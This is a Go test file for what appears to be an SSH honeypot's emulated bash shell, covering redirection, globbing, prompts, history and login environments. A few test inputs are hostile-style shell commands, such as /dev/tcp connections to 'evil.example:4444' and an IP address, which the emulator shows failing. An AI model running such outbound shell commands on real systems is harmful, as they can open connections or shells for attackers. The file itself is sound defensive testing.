package shell

import (
	"io"
	"strings"
	"testing"

	"github.com/lure-sensor/lure/internal/shell/commands"
)

type tcase struct {
	name   string
	src    string
	stdin  string
	out    string
	err    string
	status int
}

func runCases(t *testing.T, o testOpts, cases []tcase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := newTestShell(t, o)
			out, errs, st := runIn(t, s, c.src, c.stdin)
			if out != c.out || errs != c.err || st != c.status {
				t.Errorf("%q\n got: out=%q err=%q status=%d\nwant: out=%q err=%q status=%d", c.src, out, errs, st, c.out, c.err, c.status)
			}
		})
	}
}

func TestVFSConstructs(t *testing.T) {
	runCases(t, testOpts{}, []tcase{
		{"redirect and read back", "echo hello > /tmp/f; cat /tmp/f", "", "hello\n", "", 0},
		{"append", "echo a > /tmp/f; echo b >> /tmp/f; cat /tmp/f", "", "a\nb\n", "", 0},
		{"truncate at open", "echo abc > /tmp/f; cat /tmp/f > /tmp/f; cat /tmp/f; echo end", "", "end\n", "", 0},
		{"stdin from file", "while read l; do echo \"<$l>\"; done < /opt/app/data.txt", "", "<alpha>\n<beta>\n<gamma>\n", "", 0},
		{"here-doc into a file", "cat > /tmp/h <<EOF\nx=$HOME\nEOF\ncat /tmp/h", "", "x=/root\n", "", 0},
		{"both streams to a file", "{ echo out; echo err >&2; } &> /tmp/both; cat /tmp/both", "", "out\nerr\n", "", 0},
		{"stderr to stdout to file", "{ echo err >&2; } > /tmp/e 2>&1; cat /tmp/e", "", "err\n", "", 0},
		{"dev stdout and stderr", "echo o > /dev/stdout; echo e > /dev/stderr", "", "o\n", "e\n", 0},
		{"dev null", "echo x > /dev/null; cat /dev/null; echo $?", "", "0\n", "", 0},
		{"dev tty without a terminal", "echo x > /dev/tty", "", "", "bash: line 1: /dev/tty: No such device or address\n", 1},
		{"dev tcp goes nowhere", "exec 3<>/dev/tcp/198.51.100.7/80", "", "", "bash: line 1: connect: Network is unreachable\nbash: line 1: /dev/tcp/198.51.100.7/80: Network is unreachable\n", 1},
		{"dev tcp by name", "echo > /dev/tcp/evil.example/4444", "", "", "bash: line 1: evil.example: Temporary failure in name resolution\nbash: line 1: /dev/tcp/evil.example/4444: Invalid argument\n", 1},
		{"noclobber", "echo a > /tmp/n; set -C; echo b > /tmp/n; echo $?; echo c >| /tmp/n; cat /tmp/n", "", "1\nc\n", "bash: line 1: /tmp/n: cannot overwrite existing file\n", 0},
		{"read from a dir", "cat < /tmp; echo $?", "", "0\n", "", 0},
		{"write to a dir", "echo x > /tmp", "", "", "bash: line 1: /tmp: Is a directory\n", 1},
		{"missing parent", "echo x > /nope/f", "", "", "bash: line 1: /nope/f: No such file or directory\n", 1},
		{"parent is a file", "echo x > /etc/passwd/f", "", "", "bash: line 1: /etc/passwd/f: Not a directory\n", 1},
		{"glob in image", "echo /etc/pass* /opt/app/*.txt", "", "/etc/passwd /opt/app/data.txt\n", "", 0},
		{"glob relative", "cd /opt/app; echo *; echo ../app/d*", "", "data.txt noexec.sh run.sh\n../app/data.txt\n", "", 0},
		{"glob no match", "echo /nope/*; shopt -s nullglob; echo /nope/* end", "", "/nope/*\nend\n", "", 0},
		{"glob hidden", "cd /root; echo .b* *; touch_=1; echo > .hidden; echo .h* *", "", ".b* *\n.hidden *\n", "", 0},
		{"glob through symlink", "echo /bin/ech*", "", "/bin/echo\n", "", 0},
		{"cd and pwd", "cd /bin; pwd; pwd -P; cd -; cd; pwd", "", "/bin\n/usr/bin\n/root\n/root\n", "", 0},
		{"cd tilde", "cd ~user; pwd; cd ~; pwd; echo $OLDPWD", "", "/home/user\n/root\n/home/user\n", "", 0},
		{"cd to a file", "cd /etc/passwd", "", "", "bash: line 1: cd: /etc/passwd: Not a directory\n", 1},
		{"cd dash without oldpwd", "cd -", "", "", "bash: line 1: cd: OLDPWD not set\n", 1},
		{"tilde users", "echo ~ ~root ~user ~daemon ~nobody", "", "/root /root /home/user /usr/sbin ~nobody\n", "", 0},
		{"path lookup", "type ls echo cd; command -v ls; command -V ls", "", "ls is /usr/bin/ls\necho is a shell builtin\ncd is a shell builtin\n/usr/bin/ls\nls is /usr/bin/ls\n", "", 0},
		{"type -a follows PATH order", "type -a ls", "", "ls is /usr/bin/ls\nls is /bin/ls\n", "", 0},
		{"type -P and -p", "type -P cat; type -p cd; type -t ls", "", "/usr/bin/cat\nfile\n", "", 0},
		{"hash table", "ls; cat /dev/null; hash; hash -r; hash", "", "hits\tcommand\n   1\t/usr/bin/cat\n   1\t/usr/bin/ls\nhash: hash table empty\n", "", 0},
		{"program by path", "/bin/cat /etc/hostname; /usr/bin/cat /etc/hostname; cd /usr/bin; ./cat /etc/hostname", "", "web01\nweb01\nweb01\n", "", 0},
		{"builtin by path", "/bin/echo hi; /usr/bin/printf '%s\\n' p; /bin/true && echo t", "", "hi\np\nt\n", "", 0},
		{"not executable", "/opt/app/noexec.sh", "", "", "bash: line 1: /opt/app/noexec.sh: Permission denied\n", 126},
		{"is a directory", "/tmp", "", "", "bash: line 1: /tmp: Is a directory\n", 126},
		{"missing path", "./nope", "", "", "bash: line 1: ./nope: No such file or directory\n", 127},
		{"path through a file", "/etc/passwd/x", "", "", "bash: line 1: /etc/passwd/x: Not a directory\n", 126},
		{"shell script", "/opt/app/run.sh arg", "", "run arg\n", "", 0},
		{"script without shebang", "printf 'echo \"no shebang $0 $#\"\\nfoo_x\\n' > /tmp/s; chmod_=1; /tmp/s a b", "", "", "bash: line 1: /tmp/s: Permission denied\n", 126},
		{"uploaded binary runs quietly", "printf '\\177ELFjunk' > /tmp/m; echo $?", "", "0\n", "", 0},
		{"bad interpreter", "echo '#!/usr/bin/nope' > /tmp/b; cat /tmp/b > /dev/null; /opt/app/run.sh x", "", "run x\n", "", 0},
		{"source a vfs file", "echo 'sv=7; echo sourced $1' > /tmp/src; . /tmp/src one; echo $sv", "", "sourced one\n7\n", "", 0},
		{"source error names the file", "echo 'foo_cmd' > /tmp/src2; source /tmp/src2", "", "", "/tmp/src2: line 1: foo_cmd: command not found\n", 127},
		{"sub shell via bash -c", "bash -c 'echo $0 $1; foo_y' x1 y1", "", "x1 y1\n", "x1: line 1: foo_y: command not found\n", 127},
		{"proc env and temp assigns", "export A=1; B=2 env > /tmp/e; env > /tmp/e2; while read l; do case $l in A=*|B=*) echo $l;; esac; done < /tmp/e; while read l; do case $l in B=*) echo $l;; esac; done < /tmp/e2", "", "A=1\nB=2\n", "", 0},
		{"read from stdin", "read a b; echo $b $a", "x y\n", "y x\n", "", 0},
		{"pipe into while", "printf 'a\\nb\\n' | while read l; do echo L$l; done", "", "La\nLb\n", "", 0},
		{"pipestatus", "true | false | true; echo ${PIPESTATUS[@]}", "", "0 1 0\n", "", 0},
		{"panicking program", "panicky; echo $?", "", "139\n", "Segmentation fault\n", 0},
		{"stdout is not a tty in exec mode", "tty-check", "", "notty\n", "", 0},
		{"kill a persona process as root", "kill 412; echo $?; kill -9 99999", "", "0\n", "bash: line 1: kill: (99999) - No such process\n", 1},
		{"umask applies to new files", "umask 077; echo x > /tmp/u; [ -r /tmp/u ] && echo readable", "", "readable\n", "", 0},
		{"proc subst is refused", "cat <(echo hi)", "", "", "bash: line 1: cannot make pipe for process substitution: Function not implemented\n", 1},
		{"exec replaces the shell", "exec echo gone; echo never", "", "gone\n", "", 0},
		{"exec redirects the shell", "exec > /tmp/x; echo into-file; exec >&2; cat /tmp/x", "", "", "into-file\n", 0},
		{"background in exec mode", "echo bg & wait; [ $! -gt 1000 ] && echo pid", "", "bg\npid\n", "", 0},
	})
}

func TestInteractive(t *testing.T) {
	runCases(t, testOpts{interactive: true, tty: true}, []tcase{
		{"not found", "foo", "", "", "-bash: foo: command not found\n", 127},
		{"syntax error", "echo )", "", "", "-bash: syntax error near unexpected token `)'\n", 2},
		{"cd error", "cd /nope", "", "", "-bash: cd: /nope: No such file or directory\n", 1},
		{"arith error drops the line", "echo $((1/0)); echo after", "", "", "-bash: 1/0: division by 0 (error token is \"0\")\n", 1},
		{"dollar zero and flags", "echo $0 $-", "", "-bash himBHs\n", "", 0},
		{"logout", "logout", "", "", "logout\n", 0},
		{"exit prints logout", "exit 3", "", "", "logout\n", 3},
		{"history", "true\n", "", "", "", 0},
		{"stdout is the terminal", "tty-check; tty-check | cat; tty-check > /tmp/t; cat /tmp/t", "", "tty\nnotty\nnotty\n", "", 0},
		{"read prompt on the terminal", "read -p 'Name: ' n; echo hi $n", "bob\n", "hi bob\n", "Name: ", 0},
		{"function error prefix", "f() { foo_z; }; f", "", "", "-bash: foo_z: command not found\n", 127},
		{"kill own shell", "kill -9 $$; echo never", "", "", "", 137},
	})
}

func TestInteractiveBackgroundPID(t *testing.T) {
	s := newTestShell(t, testOpts{interactive: true})
	_, errs, _ := run(t, s, "true &")
	pid := strings.TrimSuffix(strings.TrimPrefix(strings.SplitN(errs, "\n", 2)[0], "[1] "), "\n")
	out, _, _ := run(t, s, "echo $!")
	if out != pid+"\n" {
		t.Fatalf("$! = %q, job line said %q", out, pid)
	}
	me, _, _ := run(t, s, "echo $$")
	if me == out || me == "" {
		t.Fatalf("$$ %q vs job %q", me, out)
	}
}

func TestHistory(t *testing.T) {
	s := newTestShell(t, testOpts{interactive: true})
	run(t, s, "echo one")
	run(t, s, " echo two")
	run(t, s, "echo three")
	out, _, _ := run(t, s, "history")
	want := "    1  echo one\n    2   echo two\n    3  echo three\n    4  history\n"
	if out != want {
		t.Fatalf("history:\n%q\nwant\n%q", out, want)
	}
	run(t, s, "history -c")
	if out, _, _ := run(t, s, "history"); out != "    1  history\n" {
		t.Fatalf("after -c: %q", out)
	}
	if h := s.History(); len(h) != 6 || h[0] != "echo one" {
		// History() keeps the session's lines even after history -c? No: -c clears it.
		if len(h) != 1 {
			t.Fatalf("History() = %q", h)
		}
	}
}

func TestHistoryControlFromBashrc(t *testing.T) {
	// skel users get HISTCONTROL=ignoreboth from ~/.bashrc
	s := newTestShell(t, testOpts{interactive: true, login: true, user: plainUser})
	run(t, s, "echo a")
	run(t, s, "echo a")
	run(t, s, " echo secret")
	out, _, _ := run(t, s, "history")
	if out != "    1  echo a\n    2  history\n" {
		t.Fatalf("history with ignoreboth: %q", out)
	}
	// history is written to the vfs at logout
	run(t, s, "exit")
	data, err := s.cfg.FS.ReadFile("/home/user/.bash_history")
	if err != nil || string(data) != "echo a\nhistory\nexit\n" {
		t.Fatalf("~/.bash_history = %q, %v", data, err)
	}
	s2 := newTestShell(t, testOpts{interactive: true, login: true, user: plainUser, fs: s.cfg.FS})
	out, _, _ = run(t, s2, "history 2")
	if out != "    3  exit\n    4  history 2\n" {
		t.Fatalf("history after re-login: %q", out)
	}
}

func TestLoginFromPersonaFiles(t *testing.T) {
	root := newTestShell(t, testOpts{interactive: true, login: true, tty: true, env: map[string]string{"TERM": "xterm-256color"}})
	if p := root.Prompt(); p != "root@web01:~# " {
		t.Errorf("root prompt %q", p)
	}
	out, _, _ := run(t, root, "alias; type ls; echo $PATH")
	if out != "ls is /usr/bin/ls\n/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n" {
		t.Errorf("root: %q", out)
	}
	run(t, root, "cd /usr/bin")
	if p := root.Prompt(); p != "root@web01:/usr/bin# " {
		t.Errorf("root prompt in /usr/bin %q", p)
	}

	user := newTestShell(t, testOpts{interactive: true, login: true, tty: true, user: plainUser, env: map[string]string{"TERM": "xterm-256color"}})
	want := "\x1b]0;user@web01: ~\a\x1b[01;32muser@web01\x1b[00m:\x1b[01;34m~\x1b[00m$ "
	if p := user.Prompt(); p != want {
		t.Errorf("user prompt %q, want %q", p, want)
	}
	out, _, _ = run(t, user, "alias; type ls; echo $PATH; echo $HISTSIZE $HISTFILESIZE")
	if out != "alias ls='ls --color=auto'\nls is aliased to `ls --color=auto'\n/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games\n1000 2000\n" {
		t.Errorf("user: %q", out)
	}
	// the alias is used
	reg := user.cfg.Commands
	var got []string
	reg.Register("ls", func(p *commands.Proc) int { got = p.Args; return 0 })
	run(t, user, "ls /tmp")
	if strings.Join(got, " ") != "ls --color=auto /tmp" {
		t.Errorf("alias expansion ran %q", got)
	}
	run(t, user, "unalias ls; ls /tmp")
	if strings.Join(got, " ") != "ls /tmp" {
		t.Errorf("after unalias ran %q", got)
	}

	dumb := newTestShell(t, testOpts{interactive: true, login: true, user: plainUser, env: map[string]string{"TERM": "dumb"}})
	if p := dumb.Prompt(); p != "user@web01:~$ " {
		t.Errorf("dumb-terminal prompt %q", p)
	}
}

func TestDefaultPromptsWithoutFiles(t *testing.T) {
	cases := []struct {
		user  bool
		term  string
		want  string
		cd    string
		wantd string
	}{
		{false, "xterm-256color", "root@web01:~# ", "/etc", "root@web01:/etc# "},
		{true, "xterm-256color", "\x1b]0;user@web01: ~\a\x1b[01;32muser@web01\x1b[00m:\x1b[01;34m~\x1b[00m$ ", "/home", "\x1b]0;user@web01: /home\a\x1b[01;32muser@web01\x1b[00m:\x1b[01;34m/home\x1b[00m$ "},
		{true, "vt100", "user@web01:~$ ", "/", "user@web01:/$ "},
		{true, "xterm", "\x1b]0;user@web01: ~\auser@web01:~$ ", "/tmp", "\x1b]0;user@web01: /tmp\auser@web01:/tmp$ "},
	}
	for _, c := range cases {
		o := testOpts{interactive: true, env: map[string]string{"TERM": c.term}}
		if c.user {
			o.user = plainUser
		}
		s := newTestShell(t, o)
		if p := s.Prompt(); p != c.want {
			t.Errorf("%s/%s: prompt %q, want %q", o.user.Name, c.term, p, c.want)
		}
		run(t, s, "cd "+c.cd)
		if p := s.Prompt(); p != c.wantd {
			t.Errorf("%s/%s in %s: prompt %q, want %q", o.user.Name, c.term, c.cd, p, c.wantd)
		}
	}
}

func TestPromptEscapes(t *testing.T) {
	cases := map[string]string{
		`\u@\h:\w\$ `:              "root@web01:~# ",
		`\W \s \v \V`:              "~ bash 5.2 5.2.15",
		`[\#|\!]`:                  "[2|2]",
		`\[\e[1m\]x\[\e[0m\]`:      "\x1b[1mx\x1b[0m",
		`a\nb\a`:                   "a\nb\a",
		`\101\\`:                   `A\`,
		`$(echo sub) ${HOME} \$x`:  "sub /root #x",
		`${debian_chroot:+(c)}end`: "end",
	}
	for ps1, want := range cases {
		s := newTestShell(t, testOpts{interactive: true})
		run(t, s, "PS1='"+strings.ReplaceAll(ps1, "'", `'\''`)+"'")
		if got := s.Prompt(); got != want {
			t.Errorf("PS1=%q: %q, want %q", ps1, got, want)
		}
	}
	s := newTestShell(t, testOpts{interactive: true})
	run(t, s, "debian_chroot=jail; PS1='${debian_chroot:+($debian_chroot)}\\u:\\W\\$ '; cd /usr/bin")
	if got := s.Prompt(); got != "(jail)root:bin# " {
		t.Errorf("chroot prompt %q", got)
	}
	if got := s.Prompt2(); got != "> " {
		t.Errorf("PS2 %q", got)
	}
}

func TestNeedsMore(t *testing.T) {
	s := newTestShell(t, testOpts{interactive: true})
	for src, want := range map[string]bool{
		"echo hi":            false,
		"echo 'open":         true,
		"if true; then":      true,
		"for i in 1 2; do":   true,
		"echo a |":           true,
		"echo )":             false,
		"cat <<EOF\nbody":    true,
		"f() {":              true,
		"echo \"a\nb\"":      false,
		"echo ${x":           true,
		"case x in":          true,
		"while true; do :; ": true,
	} {
		if got := s.NeedsMore(src); got != want {
			t.Errorf("NeedsMore(%q) = %v, want %v", src, got, want)
		}
	}
}

func TestEvents(t *testing.T) {
	sink := &recSink{}
	s := newTestShell(t, testOpts{interactive: true, sink: sink})
	run(t, s, "wget_missing http://x/y; ls; foo | bar")
	want := []string{"wget_missing http://x/y", "foo", "bar"}
	if len(sink.inputs) != len(want) {
		t.Fatalf("events %q", sink.events)
	}
	for i, w := range want {
		if sink.inputs[i] != w && !(i > 0 && (sink.inputs[1] == "bar" || sink.inputs[2] == "foo")) {
			t.Errorf("event %d input %q, want %q", i, sink.inputs[i], w)
		}
	}
	if !strings.HasPrefix(sink.events[0], "cowrie.command.failed Command not found: wget_missing") {
		t.Errorf("event %q", sink.events[0])
	}
}

func TestFallback(t *testing.T) {
	var got []string
	fb := func(p *commands.Proc) int {
		got = append(got, strings.Join(p.Args, " "))
		io.WriteString(p.Stdout, "fallback\n")
		return 3
	}
	s := newTestShell(t, testOpts{fallback: fb})
	out, _, st := run(t, s, "noemu -x; echo $?")
	if out != "fallback\n3\n" || st != 0 || len(got) != 1 || got[0] != "noemu -x" {
		t.Fatalf("persona binary without emulation: out=%q got=%q", out, got)
	}
	// an uploaded binary does not reach the fallback
	got = nil
	out, _, _ = run(t, s, "printf '\\177ELF' > /tmp/up; cat /tmp/up > /dev/null; echo '#!/bin/sh' > /dev/null; /usr/bin/noemu; echo x")
	if len(got) != 1 || out != "fallback\nx\n" {
		t.Fatalf("out=%q got=%q", out, got)
	}
}

func TestNonRoot(t *testing.T) {
	runCases(t, testOpts{user: plainUser}, []tcase{
		{"home", "pwd; echo $HOME $USER $UID $EUID", "", "/home/user\n/home/user user 1000 1000\n", "", 0},
		{"cannot enter /root", "cd /root", "", "", "bash: line 1: cd: /root: Permission denied\n", 1},
		{"cannot write /etc", "echo x > /etc/x", "", "", "bash: line 1: /etc/x: Permission denied\n", 1},
		{"cannot read shadow", "read l < /etc/shadow", "", "", "bash: line 1: /etc/shadow: Permission denied\n", 1},
		{"cannot glob /root", "echo /root/*", "", "/root/*\n", "", 0},
		{"kill other users", "kill 1", "", "", "bash: line 1: kill: (1) - Operation not permitted\n", 1},
		{"writes own files", "echo hi > ~/f; cat ~/f; [ -O ~/f ] && echo mine", "", "hi\nmine\n", "", 0},
		{"test -w", "[ -w /etc/passwd ] || echo ro; [ -w /tmp ] && echo tmp", "", "ro\ntmp\n", "", 0},
		{"user path", "echo $PATH", "", "/usr/local/bin:/usr/bin:/bin:/usr/games\n", "", 0},
	})
}

func TestProcSubFromCommands(t *testing.T) {
	s := newTestShell(t, testOpts{})
	out, errs, st := run(t, s, "x=outer; export X=exported; bash -c 'echo $x $X; exit 4'; echo $?")
	if out != "exported\n4\n" || errs != "" || st != 0 {
		t.Fatalf("out=%q err=%q status=%d", out, errs, st)
	}
	out, errs, _ = run(t, s, "bash -c 'echo )'")
	if out != "" || errs != "bash: -c: line 1: syntax error near unexpected token `)'\nbash: -c: line 1: `echo )'\n" {
		t.Fatalf("syntax error in Sub: %q %q", out, errs)
	}
}

func TestSetListsVariablesAndFunctions(t *testing.T) {
	s := newTestShell(t, testOpts{})
	out, _, _ := run(t, s, "zz_var='a b'; zz_f() { echo hi; }; set | while IFS= read -r l; do case $l in zz_*|'{ '|'    echo hi'|'}') echo \"$l\";; esac; done")
	want := "zz_var='a b'\nzz_f () \n{ \n    echo hi\n}\n"
	if out != want {
		t.Fatalf("set:\n%q\nwant\n%q", out, want)
	}
	out, _, _ = run(t, s, "export | while read l; do case $l in *' HOME='*|*' USER='*) echo \"$l\";; esac; done")
	if out != "declare -x HOME=\"/root\"\ndeclare -x USER=\"root\"\n" {
		t.Fatalf("export: %q", out)
	}
}

func TestEnvironmentAtLogin(t *testing.T) {
	s := newTestShell(t, testOpts{env: map[string]string{"SSH_CLIENT": "192.0.2.1 5555 22", "LANG": "C.UTF-8"}})
	out, _, _ := run(t, s, "env")
	// env is the line's last simple command: bash execs it in place, one shell level lower
	for _, want := range []string{"HOME=/root\n", "LOGNAME=root\n", "USER=root\n", "SHELL=/bin/bash\n", "SHLVL=0\n",
		"PWD=/root\n", "SSH_CLIENT=192.0.2.1 5555 22\n", "LANG=C.UTF-8\n",
		"PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\n", "_=/usr/bin/env\n"} {
		if !strings.Contains(out, want) {
			t.Errorf("env lacks %q:\n%s", want, out)
		}
	}
	// no pam_systemd and pam_mail's noenv (or no PAM files at all): no XDG_*, DBUS, MAIL
	for _, bad := range []string{"TERM=", "OLDPWD=", "BASH_VERSION=", "PS1=", "MAIL=", "XDG_", "DBUS_"} {
		if strings.Contains(out, "\n"+bad) || strings.HasPrefix(out, bad) {
			t.Errorf("env has %q:\n%s", bad, out)
		}
	}
	out, _, _ = run(t, s, "echo $BASH $BASH_VERSION $HOSTNAME $HOSTTYPE $MACHTYPE $OSTYPE $SHLVL ${BASH_VERSINFO[0]}")
	if out != "/usr/bin/bash 5.2.15(1)-release web01 x86_64 x86_64-pc-linux-gnu linux-gnu 1 5\n" {
		t.Errorf("shell variables: %q", out)
	}
}

// TestSHLVLOfProgramsExecdInPlace checks the shell level a program sees against what bash
// 5.2.15 prints for `env -i bash -c LINE`: the last simple command of the line, of a
// subshell, of a command substitution or of a background job is exec'd without a fork.
func TestSHLVLOfProgramsExecdInPlace(t *testing.T) {
	s := newTestShell(t, testOpts{})
	for line, want := range map[string]string{
		"env":                       "0\n",
		"true; env":                 "0\n",
		"env; true":                 "1\n",
		"true && env":               "0\n",
		"false || env":              "0\n",
		"(env)":                     "0\n",
		"(true; env)":               "0\n",
		"env | cat":                 "1\n",
		"x=1 env":                   "0\n",
		"if true; then env; fi":     "1\n",
		"{ env; }":                  "1\n",
		"for i in 1; do env; done":  "1\n",
		"echo $(env)":               "0\n",
		"env & wait":                "0\n",
		"echo $SHLVL":               "1\n",
		"f() { env; }; f":           "1\n",
		"trap 'echo bye' EXIT; env": "1\nbye\n",
		"echo \"$TERM\"; for v in $(env); do case $v in TERM=*) echo exported;; esac; done; echo end": "dumb\nend\n",
	} {
		out, _, _ := run(t, s, line)
		if strings.Contains(line, "env") && !strings.Contains(line, "TERM") {
			var lv []string
			for _, l := range strings.Fields(out) {
				if strings.HasPrefix(l, "SHLVL=") || l == "bye" {
					lv = append(lv, strings.TrimPrefix(l, "SHLVL="))
				} else if l != "" && !strings.Contains(l, "=") {
					lv = append(lv, l)
				}
			}
			out = strings.Join(lv, "\n") + "\n"
		}
		if out != want {
			t.Errorf("%s: %q, want %q", line, out, want)
		}
	}
}

func TestHistoryExpansion(t *testing.T) {
	s := newTestShell(t, testOpts{interactive: true})
	steps := []struct{ in, out, err string }{
		{"echo one two three", "one two three\n", ""},
		{"echo !!", "echo one two three\n", "echo echo one two three\n"},
		{"echo !$ !^ !*", "three echo echo one two three\n", "echo three echo echo one two three\n"},
		{"!-2", "echo one two three\n", "echo echo one two three\n"},
		{`echo "quoted!"`, "quoted!\n", ""},
		{`echo "x!y"`, "", "-bash: !y: event not found\n"},
		{`echo a\!b 'c!d'`, "a!b c!d\n", ""},
		{"echo !?two?", "echo echo one two three\n", "echo echo echo one two three\n"},
		{"!echo:1", "\n", "echo\n"},
		{"echo !nope", "", "-bash: !nope: event not found\n"},
		{"echo x != y", "x != y\n", ""},
	}
	for _, st := range steps {
		out, errs, _ := run(t, s, st.in)
		if out != st.out || errs != st.err {
			t.Errorf("%q: out=%q err=%q, want out=%q err=%q", st.in, out, errs, st.out, st.err)
		}
	}
	// exec mode has no history expansion
	e := newTestShell(t, testOpts{})
	if out, _, _ := run(t, e, `echo "pass!word" !!`); out != "pass!word !!\n" {
		t.Errorf("exec mode expanded history: %q", out)
	}
}
